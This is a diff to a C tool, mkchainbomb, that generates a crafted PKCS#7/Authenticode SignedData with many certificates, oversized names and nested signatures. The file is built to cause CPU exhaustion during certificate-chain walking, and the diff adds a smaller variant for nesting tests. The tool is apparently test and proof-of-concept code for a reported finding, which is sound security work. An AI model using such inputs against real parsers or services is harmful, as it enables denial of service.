@@ -2,7 +2,7 @@
 /*
  * mkchainbomb - write the crafted PKCS#7 of the "CPU exhaustion" finding
  *
- *   mkchainbomb NESTED OUT
+ *   mkchainbomb NESTED OUT [CERTS]
  *
  * A SignedData that costs a CA-chain walk as much as its structure allows
  * while naming nobody: 16 embedded certificates whose subject and issuer
@@ -15,6 +15,8 @@
  * their first encoded attribute, so each step compares (renders) them all.
  * The first SignerInfo carries NESTED copies of the same message without
  * nesting as Authenticode nested signatures (1.3.6.1.4.1.311.2.4.1).
+ * CERTS (default 16) and names of 4 attributes make the messages small,
+ * for tests of nesting.
  * Nothing in it verifies; it is a test input, never a signature.
  */
 
@@ -26,6 +28,9 @@
 #define NR_CERTS	16
 #define NR_SIGNERS	4
 #define NR_ATTRS	170
+
+/* Attributes per name: NR_ATTRS, or 4 for the small variant (CERTS). */
+static int nr_attrs = NR_ATTRS;
 
 struct buf {
 	uint8_t *p;
@@ -92,13 +97,13 @@ static const uint8_t oid_rsa[] = {
 static const uint8_t oid_nested[] = {
 	0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x04, 0x01 };
 
-/* A Name of NR_ATTRS "C=" RDNs; the first encoded one has value @first. */
+/* A Name of nr_attrs "C=" RDNs; the first encoded one has value @first. */
 static void name(struct buf *b, uint8_t str_tag, const char *first)
 {
 	struct buf rdns = { 0 };
 	int i;
 
-	for (i = 0; i < NR_ATTRS; i++) {
+	for (i = 0; i < nr_attrs; i++) {
 		struct buf atv = { 0 }, seq = { 0 };
 		const char *v = i ? "" : first;
 
@@ -174,8 +179,12 @@ static void signer(struct buf *b, int i, const struct buf *nested, int nr)
 	tlv(b, 0x30, &si);
 }
 
-/* A ContentInfo; the first signer carries @nr copies of @nested. */
-static void message(struct buf *b, const struct buf *nested, int nr)
+/*
+ * A ContentInfo with @nr_certs certificates; the first signer carries @nr
+ * copies of @nested.
+ */
+static void message(struct buf *b, int nr_certs, const struct buf *nested,
+		    int nr)
 {
 	struct buf sd = { 0 }, c = { 0 }, set = { 0 }, eci = { 0 };
 	struct buf certs = { 0 }, signers = { 0 }, ci = { 0 };
@@ -186,7 +195,7 @@ static void message(struct buf *b, const struct buf *nested, int nr)
 	tlv(&sd, 0x31, &set);
 	prim(&eci, 0x06, oid_data, sizeof(oid_data));
 	tlv(&sd, 0x30, &eci);
-	for (i = 0; i < NR_CERTS; i++)
+	for (i = 0; i < nr_certs; i++)
 		cert(&certs, i);
 	tlv(&sd, 0xa0, &certs);
 	for (i = 0; i < NR_SIGNERS; i++)
@@ -202,13 +211,19 @@ int main(int argc, char **argv)
 {
 	struct buf inner = { 0 }, outer = { 0 };
 	FILE *f;
-	int nr;
+	int nr, certs = NR_CERTS;
 
-	if (argc != 3)
-		die("usage: mkchainbomb NESTED OUT");
+	if (argc != 3 && argc != 4)
+		die("usage: mkchainbomb NESTED OUT [CERTS]");
 	nr = atoi(argv[1]);
-	message(&inner, NULL, 0);
-	message(&outer, &inner, nr);
+	if (argc == 4) {
+		certs = atoi(argv[3]);
+		nr_attrs = 4;
+	}
+	if (certs < NR_SIGNERS || certs > NR_CERTS)
+		die("CERTS must be 4 to 16");
+	message(&inner, certs, NULL, 0);
+	message(&outer, certs, &inner, nr);
 	f = fopen(argv[2], "wb");
 	if (!f || fwrite(outer.p, 1, outer.n, f) != outer.n || fclose(f))
 		die("cannot write the output");
